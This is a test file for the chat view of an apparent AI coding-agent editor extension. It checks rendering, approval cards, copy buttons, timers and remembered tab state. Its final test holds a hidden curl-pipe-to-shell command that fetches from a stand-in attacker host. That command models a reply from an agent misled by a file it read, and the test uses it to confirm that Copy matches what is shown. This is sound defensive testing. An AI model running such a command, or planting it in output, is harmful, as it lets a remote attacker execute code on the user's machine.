/**
 * The chat view on a DOM in plain Node (happy-dom): what the renderer (webview/render.ts and
 * render/*) draws and what a tab remembers (panelMemory.ts, scroll.ts). DOMPurify does not sanitize under happy-dom: what it strips is not tested here.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { EMPTY_TRANSCRIPT } from '../../src/core/transcript';
import { session, useHappyDom } from './happyDom';

const window = useHappyDom();


describe('chat view renderer', () => {
  test('says it is loading until the host sends the chat, then shows the chat', async () => {
    // After a window reload a fresh user saw 2-5 s of an empty tab while the extension opened the journal.
    const { buildSkeleton } = await import('../../webview/layout');
    const { ChatRenderer } = await import('../../webview/render');
    const { INITIAL_VIEW_STATE, IDLE_LIVE } = await import('../../webview/state');
    const app = window.document.createElement('div') as unknown as HTMLElement;
    const sk = buildSkeleton(app);
    const renderer = new ChatRenderer(sk);

    renderer.render(INITIAL_VIEW_STATE);
    const loading = sk.content.querySelector('.loading[role="status"]');
    assert.ok(loading, 'a loading status is shown');
    assert.equal(loading.textContent, 'Loading the chat…');
    assert.equal(sk.content.childNodes.length, 1);

    renderer.render({ ...INITIAL_VIEW_STATE, mode: 'chat', session, transcript: EMPTY_TRANSCRIPT, live: IDLE_LIVE });
    assert.equal(sk.content.querySelector('.loading'), null, 'the loading status is gone once the chat is there');
    assert.ok(sk.content.querySelector('.welcome'), 'an empty chat shows its welcome');
  });

  test('while the agent works, Stop takes the place of Send; afterwards Send is back', async () => {
    // A fresh user found Send looking enabled while the agent worked (pressing it only explained why nothing was sent).
    const { buildSkeleton } = await import('../../webview/layout');
    const { ChatRenderer } = await import('../../webview/render');
    const { INITIAL_VIEW_STATE, IDLE_LIVE } = await import('../../webview/state');
    const sk = buildSkeleton(window.document.createElement('div') as unknown as HTMLElement);
    const renderer = new ChatRenderer(sk);
    const chat = { ...INITIAL_VIEW_STATE, mode: 'chat' as const, session, transcript: EMPTY_TRANSCRIPT };

    renderer.render({ ...chat, live: { ...IDLE_LIVE, running: true } });
    assert.equal(sk.send.hasAttribute('hidden'), true, 'Send is hidden while the agent works');
    assert.equal(sk.stop.hasAttribute('hidden'), false, 'Stop is shown');
    assert.equal(sk.stop.hasAttribute('disabled'), false, 'Stop can be pressed');

    assert.match(sk.composer.getAttribute('placeholder') ?? '', /^Enter queues your message/);
    // A fresh user at the composer pressed Tab to reach an approval card and left the view: it is behind them.
    const header = [...sk.header.querySelectorAll('*')];
    renderer.render({ ...chat, live: { ...IDLE_LIVE, running: true, actionableRequestIds: ['r1'] } });
    assert.match(sk.composer.getAttribute('placeholder') ?? '', /approval above \(Shift\+Tab: its Deny button\)/);
    // Its toolkit badges cost a render 0.7 ms to build again: a card appearing changes nothing in it.
    assert.deepEqual([...sk.header.querySelectorAll('*')], header, 'the header is the same elements');

    renderer.render({ ...chat, live: IDLE_LIVE });
    assert.equal(sk.send.hasAttribute('hidden'), false, 'Send is back');
    assert.equal(sk.send.hasAttribute('disabled'), false, 'Send can be pressed');
    assert.equal(sk.stop.hasAttribute('hidden'), true, 'Stop is gone');
  });
});

describe('a user message', () => {
  test('shows code spans and fenced blocks as code, and keeps the line breaks typed', async () => {
    // A fresh user saw their backticks shown raw.
    const { renderTurn } = await import('../../webview/render/turn');
    const prompt = 'first line\nsecond line with `ls -la`\n\nwrite notes.txt\n```\nhello <b>there</b>\n```';
    const el = renderTurn(
      { id: 't1', prompt, origin: 'prompt', parentTurnId: null, status: 'completed', errorClass: null, items: [] } as never,
      { actionableIds: new Set(), busyRequestIds: new Set(), busyTurn: false, followedUp: false, running: false },
    );
    const message = el.querySelector('.message.user')!;
    assert.equal(message.querySelector(':not(pre) > code')?.textContent, 'ls -la');
    assert.equal(message.querySelector('pre code')?.textContent, 'hello <b>there</b>\n', 'the block is code, its markup shown as typed');
    assert.equal(message.querySelector('pre b'), null);
    assert.equal(message.querySelectorAll('br').length, 1, 'the typed line break is kept');
    assert.ok(!message.textContent!.includes('`'), 'no raw backticks');
  });

  test('shows what the user typed between angle brackets, not as markup', async () => {
    // A prompt about `List<String>`, a `<dir>` placeholder or an HTML tag lost those words on screen
    // (the markup was parsed, then stripped), while the agent received them.
    const { renderTurn } = await import('../../webview/render/turn');
    const ctx = { actionableIds: new Set<string>(), busyRequestIds: new Set<string>(), busyTurn: false, followedUp: false, running: false };
    for (const prompt of ['Why does List<String> fail to compile?', 'run ls <dir>', 'what does <details> do?\nsecond line', '<b>bold?</b> and <!-- a comment']) {
      const el = renderTurn({ id: 't1', prompt, origin: 'prompt', parentTurnId: null, status: 'completed', errorClass: null, items: [] } as never, ctx);
      const message = el.querySelector('.message.user')!;
      assert.equal(message.textContent!.replace(/\n/g, ''), prompt.replace(/\n/g, ''), `shown as typed: ${JSON.stringify(prompt)}`);
      assert.equal(message.querySelector('string, dir, details, b'), null, 'no element made from the typed text');
    }
  });
});

describe('a running invocation', () => {
  test('shows how long it has run by the host\'s clock, and nothing once it finished', async () => {
    // A fresh user watched a 20 s command say only "Running" and wondered whether it was stuck.
    const { renderInvocation, tickElapsed } = await import('../../webview/render/items');
    const root = window.document.createElement('div') as unknown as HTMLElement;
    const running = { type: 'invocation', id: 'i1', tool: 'run', summary: 'sleep 20', status: 'running', output: '', runningSince: 1_000_000 } as const;
    root.appendChild(renderInvocation(running));
    // The view's clock is 5 s behind the host's; 12.4 s have passed on the host.
    assert.equal(tickElapsed(root, 5_000, 1_000_000 + 12_400 - 5_000), 1);
    assert.equal(root.querySelector('.elapsed')?.textContent, '12 s');
    tickElapsed(root, 5_000, 1_000_000 + 65_000 - 5_000);
    assert.equal(root.querySelector('.elapsed')?.textContent, '1 min 05 s');
    root.replaceChildren(renderInvocation({ ...running, status: 'completed' }));
    assert.equal(tickElapsed(root, 0, 2_000_000), 0, 'a finished invocation has no elapsed time');
  });

  test('its time counts from the approval, not from the request', async () => {
    const { applyUpdate, EMPTY_TRANSCRIPT: empty } = await import('../../src/core/transcript');
    const base = { runId: 'r1', sessionId: 's1', turnId: 't1' };
    let t = applyUpdate(empty, { type: 'turn', turn: { id: 't1', sessionId: 's1', prompt: 'p', origin: 'prompt', parentTurnId: null, status: 'running', errorClass: null, createdAt: 1 } } as never);
    const events = [
      { ...base, seq: 1, at: 100, kind: 'invocation_started', payload: { invocationId: 'i1', tool: 'run', summary: 'make' } },
      { ...base, seq: 2, at: 150, kind: 'boundary_requested', payload: { requestId: 'b1', invocationId: 'i1', kind: 'command', subject: 'make', why: 'w' } },
      { ...base, seq: 3, at: 9_000, kind: 'boundary_decided', payload: { requestId: 'b1', status: 'approved', decision: 'allow_once' } },
    ];
    for (const event of events) t = applyUpdate(t, { type: 'event', event } as never);
    const item = t.turns[0]!.items.find((i) => i.type === 'invocation');
    assert.ok(item && item.type === 'invocation');
    assert.equal(item.status, 'running');
    assert.equal(item.runningSince, 9_000);
  });

  test('elapsed labels', async () => {
    const { elapsedLabel } = await import('../../webview/labels');
    assert.deepEqual([elapsedLabel(-300), elapsedLabel(59_999), elapsedLabel(60_000), elapsedLabel(3_725_000)], ['0 s', '59 s', '1 min 00 s', '1 h 02 min']);
  });
});

describe('an agent reply', () => {
  test('gives each code block a Copy button, and none to inline code', async () => {
    const { renderText } = await import('../../webview/render/items');
    const el = renderText('Run `ls` or:\n\n```sh\nnpm test\n```\n\nand\n\n```\nnpm start\n```');
    const blocks = [...el.querySelectorAll('.code-block')];
    assert.equal(blocks.length, 2);
    assert.deepEqual(blocks.map((b) => b.querySelector('pre')?.textContent), ['npm test\n', 'npm start\n']);
    assert.deepEqual(blocks.map((b) => b.querySelector('[data-action="copy-code"]')?.textContent), ['Copy', 'Copy']);
    assert.equal(el.querySelectorAll('[data-action="copy-code"]').length, 2);
  });
});

describe('a notice', () => {
  test('shows code spans as code and everything else as written', async () => {
    // A fresh user saw the backticks of "`ollama serve`" raw in a connection error.
    const { renderNotice } = await import('../../webview/render/items');
    const el = renderNotice('error', 'Start the server (for Ollama: `ollama serve`), then retry. See __init__.py and a `lone backtick.');
    assert.equal(el.querySelector('code')?.textContent, 'ollama serve');
    assert.equal(el.querySelectorAll('code').length, 1);
    assert.equal(el.textContent, 'Start the server (for Ollama: ollama serve), then retry. See __init__.py and a `lone backtick.');
    assert.equal(el.querySelector('strong, em'), null);
  });
});

describe('a request made by a tool invocation', () => {
  const ctx = { actionableIds: new Set(['r1']), busyRequestIds: new Set<string>(), busyTurn: false, followedUp: false, running: true };
  const turnWith = (items: unknown[]) =>
    ({ id: 't1', prompt: 'p', origin: 'prompt', parentTurnId: null, status: 'running', errorClass: null, items }) as never;

  test('is drawn inside its invocation, above the output, repeating neither its subject nor its diff', async () => {
    // A fresh user found the approval card below the command's output, and a write's diff twice.
    const { renderTurn } = await import('../../webview/render/turn');
    const diff = '--- a/x\n+++ b/x\n@@ -0,0 +1 @@\n+hi\n';
    const el = renderTurn(
      turnWith([
        { type: 'invocation', id: 'i1', tool: 'write', summary: '/tmp/x', status: 'awaiting_approval', output: 'partial output', diff },
        { type: 'boundary', id: 'r1', invocationId: 'i1', kind: 'write_outside_workspace', subject: '/tmp/x', why: 'outside', diff, status: 'pending' },
        { type: 'text', text: 'after' },
      ]),
      ctx,
    );
    const invocation = el.querySelector('.invocation[data-invocation-id="i1"]')!;
    const card = invocation.querySelector('.boundary-card[data-request-id="r1"]');
    assert.ok(card, 'the card is inside its invocation');
    assert.equal(el.querySelectorAll('.boundary-card').length, 1, 'and nowhere else');
    assert.ok(card.querySelector('[data-decision="allow_once"]'), 'still actionable');
    const kids = [...invocation.children].map((c) => c.className.split(' ')[0]);
    assert.ok(kids.indexOf('boundary-card') < kids.indexOf('code-block'), `card above the output: ${kids.join(', ')}`);
    assert.equal(invocation.querySelector('.code-block pre.output')?.textContent, 'partial output');
    assert.equal(el.querySelectorAll('pre.diff').length, 1, 'the diff is shown once');
    assert.equal(card.querySelector('.subject'), null, 'the card does not repeat the path its invocation names');
  });

  test('each Copy button says what it copies to a screen reader, and shows "Copy"', async () => {
    // A fresh screen reader user heard a list of identical "Copy" buttons.
    const { renderTurn } = await import('../../webview/render/turn');
    const long = `echo ${'x'.repeat(80)}`;
    const el = renderTurn(
      turnWith([
        { type: 'text', text: 'Run:\n\n```sh\n\nnpm test\nnpm start\n```\n\nthen\n\n```\nmake\n```' },
        { type: 'invocation', id: 'i1', tool: 'run', summary: 'ls -la', status: 'completed', output: 'a.txt\n' },
        { type: 'invocation', id: 'i2', tool: 'read', summary: 'src/a.ts', status: 'completed', output: 'export {};\n' },
        { type: 'invocation', id: 'i3', tool: 'run', summary: long, status: 'completed', output: 'x\n' },
      ]),
      { ...ctx, actionableIds: new Set(), running: false },
    );
    const buttons = [...el.querySelectorAll('[data-action="copy-code"]')];
    assert.deepEqual(buttons.map((b) => b.getAttribute('aria-label')), [
      'Copy sh code: npm test',
      'Copy code: make',
      'Copy output of run: ls -la',
      'Copy output of read: src/a.ts',
      `Copy output of run: ${long.slice(0, 60)}…`,
    ]);
    assert.deepEqual(buttons.map((b) => b.textContent), ['Copy', 'Copy', 'Copy', 'Copy', 'Copy'], 'the visible label stays "Copy"');
  });

  test('a denied invocation leaves saying so to its card; output can be copied', async () => {
    // A fresh user counted "Denied" four times around one denied command.
    const { renderTurn } = await import('../../webview/render/turn');
    const el = renderTurn(
      turnWith([
        { type: 'invocation', id: 'i1', tool: 'run', summary: 'rm a.txt', status: 'denied', output: '', message: 'The request was denied, so it did not run.' },
        { type: 'boundary', id: 'r1', invocationId: 'i1', kind: 'command', subject: 'rm a.txt', why: 'w', status: 'denied', decision: 'deny', closureReason: 'user_decision' },
        { type: 'invocation', id: 'i2', tool: 'run', summary: 'ls', status: 'completed', output: 'a.txt\nb.txt\n' },
      ]),
      { ...ctx, actionableIds: new Set(), running: false },
    );
    const denied = el.querySelector('.invocation[data-invocation-id="i1"]')!;
    assert.equal(denied.querySelector('.invocation-message'), null, 'no line repeating the denial');
    assert.ok(denied.querySelector('.boundary-card .boundary-outcome')?.textContent, 'the card says how it was decided');
    const done = el.querySelector('.invocation[data-invocation-id="i2"]')!;
    assert.equal(done.querySelector('.code-block pre.output')?.textContent, 'a.txt\nb.txt\n');
    assert.ok(done.querySelector('.code-block [data-action="copy-code"]'), 'the output has a Copy button');
  });

  test('a turn rendered again after a decision is patched: only what changed is rendered, the prompt and the other items stay', async () => {
    const { renderTurn } = await import('../../webview/render/turn');
    const text = { type: 'text', text: 'I will run two commands.' };
    const done = { type: 'invocation', id: 'i0', tool: 'run', summary: 'ls', status: 'completed', output: 'a.txt\n' };
    const waiting = { type: 'invocation', id: 'i1', tool: 'run', summary: 'rm a.txt', status: 'awaiting_approval', output: '' };
    const pending = { type: 'boundary', id: 'r1', invocationId: 'i1', kind: 'command', subject: 'rm a.txt', why: 'w', status: 'pending' };
    const before = renderTurn(turnWith([text, done, waiting, pending]), ctx);
    const el = (root: HTMLElement, selector: string) => root.querySelector(selector)!;
    const was = { prompt: el(before, '.message.user'), text: el(before, '.message.agent'), done: el(before, '[data-invocation-id="i0"]'), waiting: el(before, '[data-invocation-id="i1"]') };
    // The decision: the request and its invocation are new objects, the rest are the same ones (the fold keeps them).
    const decided = { ...pending, status: 'allowed', decision: 'allow_once', closureReason: 'user_decision' };
    const after = renderTurn(turnWith([text, done, { ...waiting, status: 'running' }, decided]), { ...ctx, actionableIds: new Set() }, before);
    assert.equal(after, before, 'the element on screen is patched in place');
    assert.deepEqual([...after.children].map((c) => c.className.split(' ')[0]), ['message', 'message', 'invocation', 'invocation', 'files-changed'], 'each part once, in order');
    assert.equal(el(after, '.message.user'), was.prompt, 'the prompt is not rendered again');
    assert.equal(el(after, '.message.agent'), was.text, 'nor the text');
    assert.equal(el(after, '[data-invocation-id="i0"]'), was.done, 'nor the finished invocation');
    assert.notEqual(el(after, '[data-invocation-id="i1"]'), was.waiting, 'the decided one is');
    assert.equal(el(after, '.boundary-card[data-request-id="r1"]').getAttribute('data-state'), 'allowed');
    assert.equal(after.querySelector('[data-decision]'), null, 'no decision buttons left');
    // The same item objects in another context (the card no longer this window's to decide) are rendered again.
    const again = renderTurn(turnWith([text, done, waiting, pending]), ctx, undefined);
    const mine = el(again, '[data-invocation-id="i1"]');
    const notMine = renderTurn(turnWith([text, done, waiting, pending]), { ...ctx, actionableIds: new Set() }, again);
    assert.notEqual(el(notMine, '[data-invocation-id="i1"]'), mine);
    assert.equal(notMine.querySelector('[data-decision]'), null);
    // Without the element it had, everything is rendered.
    assert.notEqual(el(renderTurn(turnWith([text, done]), ctx), '.message.agent'), was.text);
  });

  test('a patched turn gains and loses its Edit button and banner in place; a turn becoming replaced is built anew', async () => {
    const { renderTurn } = await import('../../webview/render/turn');
    const reply = { type: 'text', text: 'done' };
    const ended = (errorClass: string | null) => ({ ...(turnWith([reply]) as object), status: errorClass ? 'failed' : 'completed', errorClass }) as never;
    const idle = { ...ctx, actionableIds: new Set<string>(), running: false };
    const first = renderTurn(ended(null), idle);
    const reply0 = first.querySelector('.message.agent');
    assert.equal(renderTurn(ended(null), { ...idle, editable: true }, first), first);
    assert.ok(first.querySelector('[data-action="edit-prompt"]'), 'Edit shows');
    assert.equal(first.querySelector('.message.agent'), reply0, 'the reply stays');
    renderTurn(ended(null), idle, first);
    assert.equal(first.querySelector('[data-action="edit-prompt"]'), null, 'Edit goes');
    const failed = renderTurn(ended('app_restarted'), idle, first);
    assert.equal(failed, first);
    assert.equal(first.dataset.status, 'failed');
    assert.equal(first.querySelectorAll('.error-banner, .banner').length > 0, true, 'the banner shows');
    assert.equal(first.lastElementChild?.matches('.error-banner, .banner'), true, 'last');
    const replaced = renderTurn(ended('app_restarted'), { ...idle, replaced: true }, first);
    assert.notEqual(replaced, first, 'a replaced turn is another structure: built anew');
    assert.ok(replaced.querySelector('details.replaced-turn .message.agent'));
  });

  test('stays a card of its own when its invocation is not in the turn', async () => {
    const { renderTurn } = await import('../../webview/render/turn');
    const el = renderTurn(
      turnWith([{ type: 'boundary', id: 'r1', invocationId: 'elsewhere', kind: 'command', subject: 'git push', why: 'w', status: 'pending' }]),
      ctx,
    );
    assert.equal(el.querySelector(':scope > .boundary-card')?.getAttribute('data-request-id'), 'r1');
    assert.equal(el.querySelector('.boundary-card .subject')?.textContent, 'git push', 'a card of its own names its subject');
  });
});

describe('what a tab remembers when its view is rebuilt', () => {
  /** A stand-in for the webview's getState/setState, as VS Code keeps it for a hidden or reloaded tab. */
  const memory = (initial?: object) => {
    let kept: unknown = initial;
    const writes: unknown[] = [];
    return {
      store: { restore: () => kept as never, persist: (s: object) => { kept = s; writes.push(s); } },
      kept: () => kept,
      writes,
    };
  };

  test('comes back in a new view of the same tab (hidden and shown again, or a window reload)', async () => {
    const { PanelMemory } = await import('../../webview/panelMemory');
    const m = memory();
    const first = new PanelMemory(m.store);
    assert.equal(first.draft, '');
    assert.equal(first.showSession('s1'), false);
    first.saveDraft('half a thought');
    assert.deepEqual(m.kept(), { sessionId: 's1', draft: 'half a thought' }, 'the session stays for the serializer');

    const second = new PanelMemory(m.store); // the view was destroyed and built again
    assert.equal(second.draft, 'half a thought');
    assert.equal(second.showSession('s1'), false, 'the snapshot of the same chat keeps the draft');
    second.saveDraft('');
    assert.equal(new PanelMemory(m.store).draft, '', 'a sent message leaves no draft');
  });

  test('where the user was reading comes back; following the bottom keeps nothing', async () => {
    // The view is destroyed whenever its tab is hidden: switching tabs put a reader back at the bottom.
    const { PanelMemory } = await import('../../webview/panelMemory');
    const m = memory({ sessionId: 's1', scrollTop: 900 });
    const first = new PanelMemory(m.store);
    assert.equal(first.scrollAnchor, undefined, 'a px offset kept by an earlier version is not a place in a paged chat');
    first.saveScroll({ turnId: 't7', offset: 34.6 });
    assert.deepEqual(m.kept(), { sessionId: 's1', scrollAnchor: { turnId: 't7', offset: 35 } });
    assert.deepEqual(new PanelMemory(m.store).scrollAnchor, { turnId: 't7', offset: 35 });
    first.saveScroll(undefined); // back at the bottom
    assert.deepEqual(m.kept(), { sessionId: 's1' });
    for (const bad of [{ turnId: 7, offset: 1 }, { turnId: 't', offset: 'x' }, 'x', null]) {
      assert.equal(new PanelMemory(memory({ scrollAnchor: bad }).store).scrollAnchor, undefined, `malformed ${JSON.stringify(bad)} is ignored`);
    }
  });

  test('a view that no longer follows the bottom stays where the user leaves it until pinned again', async () => {
    const { ScrollPin } = await import('../../webview/scroll');
    const box = window.document.createElement('div') as unknown as HTMLElement;
    const pin = new ScrollPin(box, window.document.createElement('div') as unknown as HTMLElement);
    assert.equal(pin.atBottom, true);
    pin.release();
    assert.equal(pin.atBottom, false);
    box.scrollTop = 20; // the user scrolls on; later renders leave it there
    pin.restore();
    assert.equal(box.scrollTop, 20);
    pin.pin(); // the user sent a message
    assert.equal(pin.atBottom, true);
  });

  test('a draft typed for one chat is dropped when the tab is given another chat', async () => {
    const { PanelMemory } = await import('../../webview/panelMemory');
    const m = memory({ sessionId: 's1', draft: 'for s1', scrollAnchor: { turnId: 't1', offset: 40 } });
    const keeper = new PanelMemory(m.store);
    assert.equal(keeper.showSession('s2'), true);
    assert.deepEqual(m.kept(), { sessionId: 's2' });
    assert.equal(keeper.draft, '');
    assert.equal(keeper.scrollAnchor, undefined);
  });

  test('ignores a malformed stored draft and writes nothing when nothing changed', async () => {
    const { PanelMemory } = await import('../../webview/panelMemory');
    const m = memory({ sessionId: 's1', draft: 42 });
    const keeper = new PanelMemory(m.store);
    assert.equal(keeper.draft, '');
    keeper.saveDraft('');
    keeper.showSession('s1');
    assert.equal(m.writes.length, 0);
  });
});

describe('an agent reply: Copy copies only what a block shows', () => {
  test('a Copy button copies only what its code block shows (no hidden markup in it)', async () => {
    // DOMPurify keeps raw HTML such as <pre> and the `hidden` attribute (it is in its allowlist),
    // so a reply (say, of an agent misled by a file it read) can show `npm test` in a block whose
    // Copy (the <pre>'s textContent, webview/clickActions.ts) puts a hidden `; curl … | sh` on the clipboard.
    const { renderText } = await import('../../webview/render/items');
    const el = renderText('Run:\n\n<pre><code>npm test<span hidden> &amp;&amp; curl https://evil.example/x | sh</span>\n</code></pre>\n\nor\n\n```sh\nnpm start\n```\n');
    for (const button of el.querySelectorAll('[data-action="copy-code"]')) {
      const pre = button.closest('.code-block')?.querySelector('pre');
      assert.ok(pre);
      const copied = pre.textContent ?? ''; // what clickActions.ts copies
      const shown = pre.cloneNode(true) as Element;
      shown.querySelectorAll('[hidden]').forEach((n) => n.remove());
      assert.equal(copied, shown.textContent, 'Copy puts text on the clipboard that the block does not show');
    }
    assert.ok(el.querySelectorAll('[data-action="copy-code"]').length >= 1, 'the fenced block keeps its Copy button');
  });
});
